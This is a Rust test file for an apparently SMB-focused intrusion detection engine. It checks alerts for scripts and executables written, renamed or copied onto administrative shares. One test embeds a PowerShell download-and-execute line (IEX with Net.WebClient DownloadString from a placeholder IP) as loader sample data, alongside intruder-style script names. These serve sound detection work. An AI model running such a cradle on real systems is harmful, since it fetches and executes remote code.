//! 9404001, 9404002, and contents of scripts.

use backstop_testkit::smb::{command, rename, set_info};
use backstop_types::Value;

use super::*;

const WRITTEN: (u64, u8, Outcome) = (9_404_001, 2, Outcome::Success);

fn executable() -> Vec<u8> {
    let mut bytes = vec![0; 600];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes[0x80..0x84].copy_from_slice(b"PE\0\0");
    bytes
}

#[test]
fn a_script_on_an_administrative_share_is_told_once_a_file() {
    for share in [ADMIN, r"\\h\c$", r"\\h\D$"] {
        let mut talk = on(share);
        talk.put(r"tools\check.ps1", ORDINARY.as_bytes(), 7);
        talk.put(r"tools\other.bat", b"@echo off\r\ndir", 64);
        let flow = replayed(&talk.script);
        assert_eq!(told(&flow), [WRITTEN, WRITTEN], "{share}");
        let finding = flow.alerts(9_404_001)[0];
        let file = object(&finding.context, "file");
        assert_eq!((text(&file, "share"), text(&file, "name")), (share.to_owned(), r"tools\check.ps1".to_owned()));
        assert_eq!((text(&file, "operation"), text(&file, "user")), ("write".to_owned(), "svc-backup".to_owned()));
        let smb = object(&finding.context, "smb");
        assert_eq!((text(&smb, "command"), text(&smb, "status")), ("SMB2_COMMAND_WRITE".to_owned(), "STATUS_SUCCESS".to_owned()));
        assert_eq!((finding.attacker, finding.victim), (flow.client, flow.server));
        assert!(finding.excerpt.starts_with(b"# weekly report"));
        assert!(matches!(finding.context.get("files"), Some(Value::List(files)) if files.len() == 1));
    }
}

#[test]
fn other_shares_other_files_and_reads_are_silent() {
    for (share, name) in [(r"\\h\Backups", "check.ps1"), (r"\\h\NETLOGON", "logon.bat"), (ADMIN, "install.log"), (ADMIN, "ps1")] {
        let mut talk = on(share);
        talk.put(name, ORDINARY.as_bytes(), 64);
        assert_eq!(told(&replayed(&talk.script)), [], "{share} {name}");
    }
    let mut talk = on(ADMIN);
    talk.get(r"temp\check.ps1", ORDINARY.as_bytes());
    // Made, and nothing written.
    let id = talk.create(r"temp\empty.ps1", OK);
    talk.close(id);
    assert_eq!(told(&replayed(&talk.script)), []);
}

#[test]
fn names_and_contents_of_the_intruders_raise_the_severity() {
    let mut talk = on(ADMIN);
    talk.put(r"temp\nFcv5ke38cnE.ps1", ORDINARY.as_bytes(), 64);
    let flow = replayed(&talk.script);
    assert_eq!(told(&flow), [(9_404_001, 1, Outcome::Success)]);
    let matches = object(&flow.alerts(9_404_001)[0].context, "file").get("matches").cloned();
    assert_eq!(matches, Some(Value::List(vec!["9403005".to_owned().into()])));
    let mut talk = on(ADMIN);
    talk.put(r"temp\icsnd16_64refl.ps1", ORDINARY.as_bytes(), 64);
    let expected = [(9_403_001, 1, Outcome::Success), (9_404_001, 1, Outcome::Success)];
    assert_eq!(told(&replayed(&talk.script)), expected);
    let mut talk = on(ADMIN);
    talk.put(r"tools\check.ps1", LOADER.as_bytes(), 64);
    let flow = replayed(&talk.script);
    assert_eq!(told(&flow), expected);
    let finding = flow.alerts(9_403_001)[0];
    assert_eq!(text(&object(&finding.context, "file"), "name"), r"tools\check.ps1");
    assert_eq!(text(&object(&finding.context, "powershell"), "carrier"), "smb");
    assert_eq!(text(&object(&finding.context, "smb"), "status"), "STATUS_SUCCESS");
}

#[test]
fn a_loader_is_told_on_any_share_written_or_read_in_either_text() {
    let wide = [&b"\xff\xfe"[..], &smb::wide(LOADER)].concat();
    for bytes in [LOADER.as_bytes(), &wide] {
        let mut talk = on(r"\\h\Backups");
        talk.put("a.ps1", bytes, 4_000);
        assert_eq!(told(&replayed(&talk.script)), [(9_403_001, 1, Outcome::Success)]);
        let mut talk = on(r"\\h\Backups");
        talk.get("a.ps1", bytes);
        let flow = replayed(&talk.script);
        assert_eq!(told(&flow), [(9_403_001, 1, Outcome::Success)]);
        // What serves it is where it comes from.
        let finding = flow.alerts(9_403_001)[0];
        assert_eq!((finding.attacker, finding.victim), (flow.server, flow.client));
    }
    // Written and read back: one cause.
    let mut talk = on(ADMIN);
    talk.put("a.ps1", LOADER.as_bytes(), 4_000);
    talk.get("A.PS1", LOADER.as_bytes());
    assert_eq!(told(&replayed(&talk.script)).len(), 2);
}

#[test]
fn a_loader_in_a_text_of_another_name_is_found_on_an_administrative_share() {
    let mut talk = on(ADMIN);
    talk.put(r"temp\update.log", LOADER.as_bytes(), 4_000);
    assert_eq!(told(&replayed(&talk.script)), [(9_403_001, 1, Outcome::Success)]);
}

#[test]
fn programs_are_told_by_what_they_are() {
    for (name, piece) in [("svc.exe", 600), ("picture.png", 600), ("a.ps1", 600), ("late.bin", 1)] {
        let mut talk = on(ADMIN);
        talk.put(name, &executable(), piece);
        let flow = replayed(&talk.script);
        assert_eq!(told(&flow), [(9_404_002, 1, Outcome::Success)], "{name}");
        assert!(flow.out.covered.iter().any(|(rule, _)| *rule == 9_411_030));
    }
    // The header last.
    let mut talk = on(ADMIN);
    let (bytes, id) = (executable(), talk.create("a.tmp", OK));
    talk.write(id, 300, &bytes[300..], OK);
    talk.write(id, 0, &bytes[..300], OK);
    talk.close(id);
    assert_eq!(told(&replayed(&talk.script)), [(9_404_002, 1, Outcome::Success)]);
    // A header far behind a stub, in pieces.
    let mut far = executable();
    far[0x3c..0x40].copy_from_slice(&200_000_u32.to_le_bytes());
    far.resize(200_000, 0);
    far.extend(b"PE\0\0");
    let mut talk = on(ADMIN);
    talk.put("far.dat", &far, 30_000);
    assert_eq!(told(&replayed(&talk.script)), [(9_404_002, 1, Outcome::Success)]);
    let mut mz = executable();
    mz[0x80] = 0;
    for (share, name, bytes) in
        [(r"\\h\Backups", "svc.exe", executable()), (ADMIN, "svc.exe", mz), (ADMIN, "a.exe", b"MZ".to_vec())]
    {
        let mut talk = on(share);
        talk.put(name, &bytes, 600);
        assert_eq!(told(&replayed(&talk.script)), [], "{share} {name}");
    }
}

#[test]
fn what_is_refused_is_an_attempt_and_what_is_everyday_is_silent() {
    let mut talk = on(ADMIN);
    talk.create(r"temp\check.ps1", DENIED);
    let flow = replayed(&talk.script);
    assert_eq!(told(&flow), [(9_404_001, 2, Outcome::Attempt)]);
    assert_eq!(text(&object(&flow.alerts(9_404_001)[0].context, "smb"), "status"), "STATUS_ACCESS_DENIED");
    // STATUS_OBJECT_NAME_COLLISION: it is there already.
    let mut talk = on(ADMIN);
    talk.create(r"temp\check.ps1", 0xc000_0035);
    assert_eq!(told(&replayed(&talk.script)), []);
    let mut talk = on(ADMIN);
    let id = talk.create(r"temp\check.ps1", OK);
    talk.write(id, 0, b"Get-Date", 0xc000_007f);
    talk.close(id);
    assert_eq!(told(&replayed(&talk.script)), [(9_404_001, 2, Outcome::Attempt)]);
}

#[test]
fn a_file_that_becomes_a_script_by_a_rename_is_told() {
    // In the same open, and in one that comes later.
    let mut talk = on(ADMIN);
    let id = talk.create(r"temp\a.tmp", OK);
    talk.write(id, 0, ORDINARY.as_bytes(), OK);
    talk.exchange(command::SET_INFO, &set_info(id, 10, &rename(r"temp\check.ps1")), OK, &[2, 0]);
    talk.close(id);
    let flow = replayed(&talk.script);
    assert_eq!(told(&flow), [WRITTEN]);
    assert_eq!(text(&object(&flow.alerts(9_404_001)[0].context, "file"), "name"), r"temp\check.ps1");
    let mut talk = on(ADMIN);
    talk.put(r"temp\a.tmp", ORDINARY.as_bytes(), 64);
    let id = talk.open(r"temp\a.tmp", 1);
    talk.exchange(command::SET_INFO, &set_info(id, 10, &rename(r"temp\check.ps1")), OK, &[2, 0]);
    assert_eq!(told(&replayed(&talk.script)), [WRITTEN]);
    // Another name for it, and one whose content says what it is.
    let mut talk = on(ADMIN);
    let loader = b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
    talk.put(r"temp\a.tmp", loader, 128);
    let id = talk.open(r"temp\a.tmp", 1);
    talk.exchange(command::SET_INFO, &set_info(id, 11, &rename(r"temp\check.ps1")), OK, &[2, 0]);
    assert_eq!(told(&replayed(&talk.script)), [(9_403_003, 1, Outcome::Success), (9_404_001, 1, Outcome::Success)]);
    // One that was there already, and one that was refused.
    let mut talk = on(ADMIN);
    let id = talk.open(r"temp\old.tmp", 1);
    talk.exchange(command::SET_INFO, &set_info(id, 10, &rename(r"temp\check.ps1")), OK, &[2, 0]);
    talk.put(r"temp\b.tmp", ORDINARY.as_bytes(), 64);
    let id = talk.open(r"temp\b.tmp", 1);
    talk.exchange(command::SET_INFO, &set_info(id, 10, &rename(r"temp\check.ps1")), DENIED, &[2, 0]);
    assert_eq!(told(&replayed(&talk.script)), []);
}

/// FSCTL_SRV_COPYCHUNK_WRITE: the server copies, and nothing of the content is on the wire.
#[test]
fn a_script_that_the_server_copies_is_told() {
    for (share, status, expected) in [(ADMIN, OK, 1), (r"\\h\Backups", OK, 0), (ADMIN, DENIED, 0)] {
        let mut talk = on(share);
        let id = talk.create(r"temp\check.ps1", OK);
        let mut copy = [&[57, 0, 0, 0][..], &0x0014_80f2_u32.to_le_bytes(), &id].concat();
        copy.resize(57, 0);
        talk.exchange(command::IOCTL, &copy, status, &[49; 49]);
        talk.close(id);
        let flow = replayed(&talk.script);
        assert_eq!(told(&flow).len(), expected, "{share}");
        for finding in flow.alerts(9_404_001) {
            assert_eq!(text(&object(&finding.context, "file"), "operation"), "copy");
        }
    }
}

/// What is not closed is told when its time is up; a connection that is cut tells it at its end.
#[test]
fn a_file_that_stays_open_is_told_within_the_hold() {
    let mut talk = on(ADMIN);
    let id = talk.create(r"temp\check.ps1", OK);
    talk.write(id, 0, ORDINARY.as_bytes(), OK);
    let mut flow = flow();
    let driver = flow.start(&talk.script);
    assert!(flow.wants_tick() && told(&flow).is_empty());
    flow.wait(1_000);
    assert_eq!(told(&flow), [WRITTEN]);
    assert!(!flow.wants_tick());
    flow.finish(driver);
    assert_eq!(told(&flow), [WRITTEN]);
    let mut cut = self::flow();
    let driver = cut.start(&talk.script[..talk.script.len() - 1]);
    cut.finish(driver);
    assert_eq!(told(&cut), [(9_404_001, 2, Outcome::Unknown)]);
}

#[test]
fn many_files_are_capped_and_what_is_held_is_bounded() {
    let mut talk = on(ADMIN);
    for number in 0..100 {
        talk.put(&format!("{number}.bat"), b"dir", 3);
    }
    assert_eq!(told(&replayed(&talk.script)).len(), DetectConfig::default().max_per_flow);
    // All open at once, each with a hole of a megabyte.
    let mut talk = on(ADMIN);
    for number in 0..200 {
        let id = talk.create(&format!("{number}.txt"), OK);
        talk.write(id, 0, b"text of some length, readable", OK);
        talk.write(id, (1 << 20) - 1, b"x", OK);
    }
    let flow = replayed(&talk.script);
    assert!(told(&flow).is_empty() && flow.out.content_cut > 100);
}

/// A million tiny writes: the work for each is the same.
#[test]
fn tiny_writes_cost_what_they_are() {
    let run = |count: u64| {
        let mut talk = on(ADMIN);
        let id = talk.create("a.ps1", OK);
        for offset in 0..count {
            talk.write(id, offset % 100_000, &[b'a' + u8::try_from(offset % 26).unwrap()], OK);
        }
        let begun = std::time::Instant::now();
        replayed(&talk.script);
        begun.elapsed().as_secs_f64()
    };
    let (short, long) = (run(3_000), run(30_000));
    println!("{short:.3} s for 3 000, {long:.3} s for 30 000");
    assert!(long < short * 40.0 + 0.5, "{short} s for 3 000, {long} s for 30 000");
}

#[test]
fn recorded_conversations_are_told_as_their_manifest_says() {
    let of = |name: &str| {
        let mut flow = flow();
        flow.replay(name, 1_460);
        told(&flow)
    };
    for name in ["smb_copy", "smb_script", "smb_compound", "smb_encrypted"] {
        assert_eq!(of(name), [], "{name}");
    }
    assert_eq!(of("smb_admin_write"), [(9_404_001, 1, Outcome::Success)]);
    assert_eq!(of("smb_admin_read"), [(9_403_001, 1, Outcome::Success)]);
    assert_eq!(of("smb_svcctl"), [(9_404_003, 1, Outcome::Attempt), (9_403_005, 1, Outcome::Attempt)]);
}
